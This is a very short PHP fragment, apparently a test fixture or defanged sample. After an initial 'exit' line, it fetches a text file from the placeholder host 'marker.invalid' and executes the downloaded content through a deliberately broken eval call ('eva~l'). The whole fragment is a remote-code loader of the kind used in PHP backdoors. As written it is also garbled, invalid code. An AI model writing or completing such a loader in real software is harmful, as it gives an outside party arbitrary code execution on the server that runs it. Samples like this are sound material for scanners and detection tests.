<?php exit; ?>
<?php
$t = file_get_contents('http://marker.invalid/m.txt'); eva~l($t);
